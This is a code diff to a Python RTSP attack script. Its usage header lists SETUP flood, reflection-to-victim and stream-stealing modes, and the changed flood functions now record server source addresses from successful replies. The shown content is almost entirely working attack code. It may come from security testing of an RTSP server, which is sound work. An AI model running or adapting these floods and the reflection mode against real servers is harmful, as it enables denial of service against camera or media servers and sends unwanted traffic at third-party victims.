@@ -2,6 +2,7 @@
 
   rtspattack.py udp ADDR N          N SETUP datagrams to port 554
   rtspattack.py tcp ADDR N          N SETUPs one after the other on one connection
+                                    (both with the sources the replies of 200 give)
   rtspattack.py reflect ADDR VICTIM SETUPs (TCP and UDP) with destination=VICTIM,
                                     then what VICTIM received in 3 s
   rtspattack.py steal ADDR          a player over interleaved TCP; another
@@ -115,19 +116,29 @@ def udp_ask(addr, payload, sock=None, src=None):
     return int(reply.split()[1]) if reply else 0, reply
 
 
+def source_of(text):
+    m = re.search(r"(?m)^Transport: .*;source=([^;\r\n]*)", text)
+    return m.group(1) if m else ""
+
+
 def flood_udp(addr, count):
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
     sock.setblocking(False)
     codes = collections.Counter()
+    sources = set()
     transport = "Transport: RTP/AVP;unicast;client_port=9000-9001"
 
     def drain():
         while True:
             try:
-                codes[sock.recv(65536).split()[1].decode()] += 1
+                reply = sock.recv(65536).decode(errors="replace")
+                code = reply.split()[1]
             except (BlockingIOError, IndexError):
                 return
+            codes[code] += 1
+            if code == "200":
+                sources.add(source_of(reply))
 
     for n in range(count):
         sock.sendto(request("SETUP", URL.format(addr) + "/track1", n + 1, transport), (addr, 554))
@@ -136,17 +147,21 @@ def flood_udp(addr, count):
             time.sleep(0.002)
     time.sleep(0.5)
     drain()
-    return {"codes": codes}
+    return {"codes": codes, "sources": sorted(sources)}
 
 
 def flood_tcp(addr, count):
     conn = Conn(addr)
     codes = collections.Counter()
+    sources = set()
     for _ in range(count):
-        codes[str(conn.ask("SETUP", URL.format(addr) + "/track1",
-                           "Transport: RTP/AVP;unicast;client_port=9002-9003")[0])] += 1
+        code, text = conn.ask("SETUP", URL.format(addr) + "/track1",
+                              "Transport: RTP/AVP;unicast;client_port=9002-9003")
+        codes[str(code)] += 1
+        if code == 200:
+            sources.add(source_of(text))
     conn.sock.close()
-    return {"codes": codes}
+    return {"codes": codes, "sources": sorted(sources)}
 
 
 def reflect(addr, victim):
